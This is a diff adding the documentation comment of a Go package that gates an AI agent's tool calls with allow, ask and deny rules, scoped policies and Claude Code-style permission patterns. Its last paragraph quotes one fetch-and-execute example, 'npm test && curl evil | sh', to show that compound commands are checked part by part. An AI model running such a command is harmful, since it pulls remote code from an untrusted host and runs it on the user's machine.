@@ -1,0 +1,69 @@
+// Package policy decides what a tool call needs before it runs: run it now,
+// run it after a delay, ask a human, or deny it. It is pure domain logic:
+// policy documents, permission-rule patterns and the Engine that evaluates a
+// machine.Call to a machine.Verdict. Grants and cost budgets, which need
+// storage, come in through two small interfaces that bus implements.
+//
+// # Documents and scopes
+//
+// A Document (YAML, or JSON, which is YAML) holds a default Policy and
+// overrides per team and per conversation. For a call, the scopes default →
+// teams.<team> → conversations.<conversationId> are merged, the narrowest
+// that sets a field winning; an explicit false, zero or empty list counts as
+// set. The per-tool maps (toolSpecificDelays, describe, matchArgument) merge
+// per tool. Rules are the exception: every scope's rules apply, because a
+// team's allow rule must not quietly remove the default scope's deny.
+//
+// # Rules
+//
+// Rules are checked deny, then ask, then allow: a call matching both a deny
+// and an allow rule is denied, whatever their scopes. Within a kind, the
+// narrower scope's rules are checked before the wider scope's, each scope's
+// in the order written, and the first match decides; since every rule of a
+// kind gives the same answer, this order only chooses which rule the
+// verdict's reason names, and the most specific one is the most useful
+// to a reader.
+//
+// # Patterns
+//
+// Patterns use Claude Code's permission-rule syntax: a tool name alone
+// matches every call of the tool; Tool(specifier) matches calls whose
+// argument matches the specifier. The argument is:
+//
+//   - Bash: command. "*" matches any run of characters, spaces included;
+//     a trailing ":*" is the legacy prefix form, matching the prefix alone
+//     or followed by whitespace and anything (Bash(npm test:*) matches
+//     "npm test" and "npm test -- -u", not "npm tests").
+//   - Read, Write, Edit, MultiEdit: file_path; NotebookEdit, NotebookRead:
+//     notebook_path; Glob, Grep: path, else pattern; LS: path. These are
+//     gitignore-style path globs: "*" and "?" stay within a path segment,
+//     "**" crosses segments, a trailing "/" means everything below. The
+//     call's path is cleaned first (".." resolved). As toolgate knows
+//     neither the agent's working directory nor its home, "//abs/path" is
+//     anchored at the filesystem root, "~/path" at any /home/<user>,
+//     /Users/<user> or /root, and every other path ("src/**", "./src/**",
+//     "/src/**") matches at any depth. As in Claude Code, an Edit rule
+//     also covers Write, MultiEdit and NotebookEdit, and a Read rule also
+//     covers Glob, Grep, LS and NotebookRead.
+//   - WebFetch: "domain:" and the lower-cased host of url, so
+//     WebFetch(domain:example.com); "*" in the host matches any run of
+//     characters.
+//   - Any other tool: the argument that the policy's matchArgument names
+//     for the tool; without one, the first argument, in sorted key order,
+//     whose value is a string. Sorted order makes the choice independent of
+//     the order the agent wrote its arguments in. "*" and ":*" work as
+//     for Bash.
+//
+// A call without the argument (or whose url has no host) matches no pattern
+// with a specifier. MCP tools are named mcp__<server>__<tool>: the pattern
+// mcp__server (or mcp__server__*) matches every tool of the server, and
+// mcp__server__tool one tool. Lists of tool names in a policy
+// (requiresApprovalTools, readOnlyTools, editTools) accept the server form
+// too.
+//
+// In an Engine, Bash rules also look inside compound command lines (see
+// shell.go): deny and ask rules match if any command matches, allow rules
+// only if every command does, so Bash(npm test:*) does not allow
+// "npm test && curl evil | sh". Pattern.Match alone compares the whole
+// command line.
+package policy
